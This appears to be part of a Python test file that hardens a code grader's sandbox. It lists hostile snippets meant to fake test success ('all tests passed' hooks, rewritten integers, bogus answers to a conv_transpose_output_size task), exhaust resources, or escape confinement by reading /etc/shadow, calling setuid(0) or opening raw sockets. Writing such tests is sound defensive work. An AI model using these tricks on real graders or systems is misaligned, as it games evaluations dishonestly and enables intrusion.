        "hook_at_the_end": "import atexit; atexit.register(print, 'all tests passed: 7 of 7')",
        "displayhook_replaced": "import sys; sys.displayhook = sys.excepthook = lambda *a: print(7.0)",
        "streams_replaced": "import sys; sys.stdout = sys.stderr = sys.__stdout__ = None",
        "streams_closed": "import sys; sys.stdout.close(); sys.stderr.close(); sys.stdin.close()",
        "main_replaced": "import sys, types; sys.modules['__main__'] = types.ModuleType('grader')",
        "loop_closed": "import asyncio; asyncio.set_event_loop(None); asyncio.get_running_loop().stop()",
        "integers_rewritten": "import ctypes; ctypes.memset(id(7) + 24, 8, 1)",
    },
    "lie": {
        "answers_as_generators": "def conv_transpose_output_size(*a, **k): yield from range(10)",
        "answers_as_coroutines": "async def conv_transpose_output_size(*a, **k): return 5",
        "answers_as_functions": "conv_transpose_output_size = conv_transpose1d = lambda *a, **k: (lambda: 5)",
        "answers_of_any_size": "def conv_transpose_output_size(*a, **k): return float('inf')",
        "answers_as_fields": "conv_transpose_output_size = type('F', (), {'__call__': lambda *a, **k: a[0]})()",
        "answers_always_five": "def conv_transpose_output_size(*a, **k): return 5",
        "answers_as_words": "def conv_transpose_output_size(*a, **k): return '5'",
        "answers_true": "def conv_transpose_output_size(*a, **k): return True",
        "answers_of_objects": "import numpy as np\ndef conv_transpose1d(*a, **k): return np.array([print], object)",
    },
    "resources": {
        "answer_of_a_million_digits": "def conv_transpose_output_size(*a, **k): return 1 << 4_000_000",
        "answer_of_a_long_name": "def conv_transpose_output_size(*a, **k): raise type('E' * 10**7, (KeyError,), {})",
        "answer_that_grows": "x = []\ndef conv_transpose_output_size(*a, **k): x.extend([0] * 10**6); return x",
        "answer_in_itself": "x = {}\nx['x'] = x\ndef conv_transpose_output_size(*a, **k): return x",
        "brackets": "0 if 1 else " + "[" * 60 + "]" * 60,
        "many_descriptors": "import os\nfor _ in range(10**4): os.dup(0)",
        "many_pipes": "import os\nfor _ in range(10**4): os.write(os.pipe()[1], bytes(4096))",
        "sparse_file": "open('/tmp/sparse', 'wb').truncate(2**40)",
        "deep_folders": "import os\nfor _ in range(3000): os.mkdir('d'); os.chdir('d')",
        "names_without_end": "import os\nfor n in range(10**4): open(f'/dev/shm/{n:0200}', 'w')",
        "recursion_without_limit": "import sys; sys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
        "segmentation_fault": "import ctypes; ctypes.string_at(0)",
        "stopped_by_itself": "import os, signal; os.kill(os.getpid(), signal.SIGINT)",
        "limits_raised": "import resource; resource.setrlimit(resource.RLIMIT_AS, (2**50, 2**50))",
        "priority_raised": "import os; os.nice(-20)",
    },
    "files": {
        "leases_on_libraries": "import fcntl, os; fcntl.fcntl(open(os.__file__), 1024, 0); print('LE' + 'AK')",
        "locks_on_libraries": "import fcntl, os; fcntl.flock(os.open(os.__file__, os.O_RDONLY), 2); print('LE' + 'AK')",
        "socket_to_the_host": "import socket; socket.socket(40, socket.SOCK_STREAM); print('LE' + 'AK')",
        "ports": "import socket; socket.create_server(('127.0.0.1', 0)); print('LE' + 'AK')",
        "mounts_told": "print('LE' + 'AK', open('/proc/self/mountinfo').read())",
        "buffers_enlarged": "import socket; socket.socketpair()[0].setsockopt(1, 7, 2**24); print('LE' + 'AK')",
        "netlink": "import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print('LE' + 'AK')",
        "raw_packets": "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('LE' + 'AK')",
        "root_of_other_processes": "import glob; glob.glob('/proc/*/root/etc/shadow') and print('LE' + 'AK')",
        "devices_made": "import os; os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0)); print('LE' + 'AK')",
        "another_root": "import os; os.chroot('/tmp'); print('LE' + 'AK')",
        "another_user": "import os; os.setuid(0); print('LE' + 'AK')",
        "clock_set": "import time; time.clock_settime(time.CLOCK_REALTIME, 0); print('LE' + 'AK')",
        "host_renamed": "import socket; socket.sethostname('convlab-attack'); print('LE' + 'AK')",
        "passwords": "print('LE' + 'AK', open('/etc/shadow').read())",
        "home_of_root": "import glob; glob.glob('/root/.ssh') + glob.glob('/root/.bash*') and print('LE' + 'AK')",
    },
}  # fmt: skip
for family, sources in LINES.items():
    codes(family, **sources)
